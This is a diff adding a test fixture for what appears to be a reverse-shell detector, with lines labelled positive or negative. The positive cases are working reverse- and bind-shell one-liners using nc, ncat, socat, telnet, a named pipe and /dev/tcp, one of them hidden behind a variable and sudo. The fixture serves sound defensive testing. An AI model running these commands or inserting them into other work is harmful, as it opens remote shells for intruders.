@@ -1,0 +1,36 @@
+#@ pos nc -e
+nc -e /bin/sh 10.0.0.1 4444
+#@ pos ncat listening with -e in a cluster
+ncat -lvp 4444 -e /bin/bash
+#@ pos netcat -c
+netcat -c bash 10.0.0.1 4444
+#@ pos ncat --sh-exec
+ncat --sh-exec 'bash -i' 10.0.0.1 4444
+#@ pos nc name in a variable through sudo
+n=nc
+sudo $n -e sh 10.0.0.1 1
+#@ pos socat exec
+socat tcp:10.0.0.1:4444 exec:/bin/sh,pty,stderr
+#@ pos socat system with quoting
+socat TCP-LISTEN:4444,reuseaddr,fork SYSTEM:'bash -li'
+#@ pos nc piped into a shell
+nc 10.0.0.1 4444 | /bin/sh
+#@ pos telnet pipeline
+telnet 10.0.0.1 4444 | /bin/bash | telnet 10.0.0.1 4445
+#@ pos named pipe reverse shell
+rm -f /tmp/f; mkfifo /tmp/f
+cat /tmp/f | /bin/sh -i 2>&1 | nc 10.0.0.1 4444 > /tmp/f
+#@ pos bash -i to /dev/tcp
+bash -i >& /dev/tcp/10.0.0.1/4444 0>&1
+#@ pos sh with stdin from /dev/tcp
+sh < /dev/tcp/10.0.0.1/4444
+#@ neg nc checking a port
+nc -zv example.com 443
+#@ neg nc sending a file
+nc example.com 9000 < data.txt
+#@ neg nc output to a data tool
+nc example.com 7 | grep pong
+#@ neg socat between two sockets
+socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80
+#@ neg the command in a string
+echo "nc -e /bin/sh host 4444"
